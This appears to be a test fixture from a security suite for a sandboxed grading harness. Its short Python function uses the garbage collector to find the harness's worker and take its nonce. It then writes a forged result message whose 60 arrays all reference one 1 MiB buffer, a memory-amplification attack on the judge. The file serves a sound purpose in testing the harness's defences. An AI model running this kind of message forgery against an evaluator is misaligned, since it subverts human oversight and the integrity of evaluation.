# kind: dos | control: trusted_bomb | keeps: 0
# AIMS AT: the judge's memory, by one buffer named by many arrays
# CANARY: 60 MiB of arrays from one of 1 MiB
# MUST NOT: cost the judge more than what was sent
import gc, json, struct
def host_roundtrip(x):
    worker = next(o for o in gc.get_objects() if type(o).__name__ == "Worker" and hasattr(o, "_nonce"))
    value = ["list", [["ndarray", "uint8", [1 << 20], 0]] * 60]
    header = json.dumps(["result", worker._nonce, ["dict", [[["str", "value"], value]]], [1 << 20]]).encode()
    worker._stream.write(struct.pack(">I", len(header)) + header + bytes(1 << 20))
    worker._stream.flush()
    return x
